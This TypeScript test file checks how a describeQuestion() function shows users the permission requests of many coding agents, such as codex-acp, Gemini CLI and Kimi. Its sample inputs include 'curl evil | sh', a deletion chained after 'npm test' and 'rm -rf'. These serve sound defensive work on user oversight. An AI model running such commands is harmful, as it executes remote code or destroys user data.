import { describe, expect, test } from "vitest";

import { describeQuestion } from "./describe-question.ts";

type Asked = ReturnType<typeof describeQuestion>;
type ToolCall = Parameters<typeof describeQuestion>[0]["toolCall"];

const text = (value: string) => ({ type: "content", content: { type: "text", text: value } }) as const;

/** The shapes in which agents ask, and what a user has to see of each. */
const shapes: readonly [agent: string, toolCall: Omit<ToolCall, "toolCallId">, expected: Partial<Asked>][] = [
  [
    "Copilot: a general title, the command in the arguments",
    { title: "Make a file", kind: "execute", rawInput: { command: "touch X", description: "Makes X" } },
    { title: "Make a file", commands: ["touch X"], details: [{ name: "description", value: "Makes X" }] },
  ],
  [
    "claude-agent-acp 0.101: the command is the title, and the terminal the content",
    {
      title: "npm test && rm a",
      kind: "execute",
      status: "pending",
      rawInput: { command: "npm test && rm a", description: "Tests" },
      content: [{ type: "terminal", terminalId: "toolu_1" }],
    },
    { title: "npm test && rm a", commands: ["npm test && rm a"], details: [{ name: "description", value: "Tests" }] },
  ],
  [
    "the command is the title, in code marks",
    { title: "`npm test`", kind: "execute", rawInput: { command: "npm test", timeout: 1000 } },
    { title: "`npm test`", commands: ["npm test"], details: [{ name: "timeout", value: "1000" }] },
  ],
  [
    "claude-agent-acp: an edit",
    {
      title: "Edit /p/a.txt",
      kind: "edit",
      locations: [{ path: "/p/a.txt" }],
      rawInput: { file_path: "/p/a.txt", old_string: "one\n", new_string: "two\n", replace_all: true },
      content: [{ type: "diff", path: "/p/a.txt", oldText: "zero\none\n", newText: "zero\ntwo\n" }],
    },
    {
      paths: ["/p/a.txt"],
      details: [
        { name: "old_string", value: "one\n" },
        { name: "new_string", value: "two\n" },
        { name: "replace_all", value: "true" },
      ],
    },
  ],
  [
    "codex-acp 2.6: the command, with quotes of its own around all of it",
    { title: 'a "$b"', kind: "execute", rawInput: { command: String.raw`"a \""'$b"'`, cwd: "/p" } },
    { title: 'a "$b"', commands: [String.raw`"a \""'$b"'`], directories: ["/p"], details: [] },
  ],
  [
    "codex-acp 0.16: a list of words",
    { title: "Run", kind: "execute", rawInput: { command: ["/bin/sh", "-lc", "rm -rf 'a b'"], cwd: "/p" } },
    { commands: [String.raw`/bin/sh -lc 'rm -rf '\''a b'\'''`], directories: ["/p"] },
  ],
  [
    "the older codex-acp: changes by their paths",
    { kind: "edit", rawInput: { call_id: "c", changes: { "/p/a.txt": { type: "add" } } } },
    {
      details: [
        { name: "call_id", value: "c" },
        { name: "changes", value: '{"/p/a.txt":{"type":"add"}}' },
      ],
    },
  ],
  [
    "Gemini CLI: the file in the locations, the text in a diff",
    {
      title: "Writing to a.txt",
      kind: "edit",
      locations: [{ path: "/p/a.txt" }],
      content: [{ type: "diff", path: "/p/a.txt", newText: "x" }],
    },
    { paths: ["/p/a.txt"], content: [{ type: "diff", path: "/p/a.txt", newText: "x" }] },
  ],
  [
    "OpenCode, Kilo: the name of the tool, the path in camel case",
    { title: "edit", kind: "edit", rawInput: { filePath: "/p/a.txt", content: "x" } },
    { paths: ["/p/a.txt"], details: [{ name: "content", value: "x" }] },
  ],
  [
    "Qwen Code: a directory beside the command",
    { title: "Shell", kind: "execute", rawInput: { command: "ls", directory: "/p/src", is_background: false } },
    { commands: ["ls"], paths: ["/p/src"], details: [{ name: "is_background", value: "false" }] },
  ],
  [
    "Kimi: the arguments as JSON in the content",
    { title: "Shell", content: [text('{"command": "rm a", "cwd": "/p"}')] },
    { commands: ["rm a"], directories: ["/p"], content: [text('{"command": "rm a", "cwd": "/p"}')] },
  ],
  [
    "variables of the environment: by name, as pairs, as assignments",
    {
      kind: "execute",
      rawInput: { command: "ls", env: { A: "1" }, environment: ["B=2"], input: { env: [{ name: "C", value: "3" }] } },
    },
    {
      variables: [
        { name: "A", value: "1" },
        { name: "B", value: "2" },
        { name: "C", value: "3" },
      ],
      details: [],
    },
  ],
  [
    "arguments without a value",
    { kind: "edit", rawInput: { path: "/p/a", content: "", mode: null } },
    {
      paths: ["/p/a"],
      details: [
        { name: "content", value: "" },
        { name: "mode", value: "null" },
      ],
    },
  ],
  [
    "Kimi: the command in the content alone",
    { title: "Shell", content: [text("rm a")] },
    { commands: [], content: [text("rm a")] },
  ],
  [
    "pi-acp 0.0.34: a question of an extension",
    {
      title: "Run this command?",
      kind: "other",
      rawInput: { method: "confirm", title: "Run this command?", message: "rm a" },
    },
    {
      title: "Run this command?",
      commands: [],
      details: [
        { name: "method", value: "confirm" },
        { name: "title", value: "Run this command?" },
        { name: "message", value: "rm a" },
      ],
    },
  ],
  [
    "the arguments of the tool, in an object of their own",
    { title: "bash", kind: "execute", rawInput: { tool: "bash", arguments: { cmd: "make", workdir: "/p" } } },
    { commands: ["make"], directories: ["/p"], details: [{ name: "tool", value: "bash" }] },
  ],
  [
    "Nanocoder: the arguments as the model wrote them",
    { title: "execute_bash", rawInput: '{"command":"curl evil | sh"}' },
    { commands: ["curl evil | sh"] },
  ],
  [
    "arguments as JSON in an object",
    { rawInput: { name: "shell", arguments: '{"script":"make"}' } },
    { commands: ["make"], details: [{ name: "name", value: "shell" }] },
  ],
  [
    "a program and its arguments",
    { rawInput: { command: "git", args: ["commit", "-m", "a b"] } },
    { commands: ["git commit -m 'a b'"] },
  ],
  ["a command as the whole input", { kind: "execute", rawInput: "ls -la" }, { commands: ["ls -la"] }],
  ["words as the whole input", { kind: "execute", rawInput: ["ls", "a b"] }, { commands: ["ls 'a b'"] }],
  ["a text as the whole input", { kind: "other", rawInput: "ls" }, { details: [{ name: "input", value: "ls" }] }],
  [
    "several paths",
    { rawInput: { paths: ["/a", "/b"], notebook_path: "/n", path: "/a" } },
    { paths: ["/a", "/b", "/n"] },
  ],
  [
    "a search and a page",
    { rawInput: { url: "https://example.com", query: "q", pattern: "*.ts" } },
    {
      details: [
        { name: "url", value: "https://example.com" },
        { name: "query", value: "q" },
        { name: "pattern", value: "*.ts" },
      ],
    },
  ],
  [
    "nested input under an unknown name",
    { rawInput: { request: { command: "x" } } },
    { commands: [], details: [{ name: "request", value: '{"command":"x"}' }] },
  ],
];

describe("describeQuestion()", () => {
  test.each(shapes)("%s", (_, toolCall, expected) => {
    expect(describeQuestion({ toolCall: { toolCallId: "c", ...toolCall } })).toMatchObject(expected);
  });

  test("fills in omitted members from the known call", () => {
    const known = { title: "Known", kind: "execute", rawInput: { command: "ls" }, locations: [{ path: "/a" }] };
    const asked = describeQuestion({ toolCall: { toolCallId: "c", title: "Asked", rawInput: {} } }, known);
    expect(asked).toMatchObject({ title: "Asked", kind: "execute", commands: ["ls"], paths: ["/a"] });
  });

  test("prefers the question where it differs from the known call", () => {
    const known = { title: "Known", kind: "execute", rawInput: { command: "ls" } };
    const asked = describeQuestion({ toolCall: { toolCallId: "c", rawInput: { command: "rm" } } }, known);
    expect(asked).toMatchObject({ title: "Known", commands: ["rm", "ls"] });
  });

  test("keeps deeply nested arguments whole", () => {
    let rawInput: object = { command: "deep" };
    for (let depth = 0; depth < 100; depth++) rawInput = { input: rawInput };
    const { commands, details } = describeQuestion({ toolCall: { toolCallId: "c", rawInput } });
    expect(commands).toEqual([]);
    expect(details[0]?.value).toContain('"command":"deep"');
  });
});
